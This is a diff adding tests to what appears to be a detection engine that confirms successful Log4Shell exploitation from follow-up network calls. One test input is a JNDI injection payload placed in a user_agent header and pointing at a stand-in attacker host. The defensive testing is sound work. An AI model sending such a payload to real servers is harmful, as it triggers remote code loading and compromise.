@@ -157,6 +157,19 @@ def test_a_call_of_the_server_to_what_the_request_named_confirms_success(rules: 
     assert any("198.51.100.77:1389" in item.shows for item in alert.evidence)
 
 
+def test_a_call_by_name_to_what_the_request_named_counts_in_whatever_case_and_port(rules: RuleSet) -> None:
+    named = {**JNDI, "user_agent": "${jndi:ldap://x.evil.example/a}"}
+    by_name = call(server_ip="192.0.2.53", server_port=53, protocol="dns", host="X.Evil.Example:53")
+    alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL)), named, by_name))
+    assert alert.outcome is Outcome.CONFIRMED_SUCCESSFUL
+
+
+def test_without_an_inventory_calls_of_all_home_hosts_are_watched(rules: RuleSet) -> None:
+    known = knowledge(rules, services=(), home=("192.0.2.0/24",))
+    alert = only(judged(known, JNDI, call()))
+    assert alert.verdict is Verdict.COMPROMISED
+
+
 def test_a_call_that_came_before_the_request_is_not_its_effect(rules: RuleSet) -> None:
     early = call(time=START - timedelta(minutes=1))
     alert = only(judged(knowledge(rules, vulnerability(LOG4SHELL)), JNDI, early))
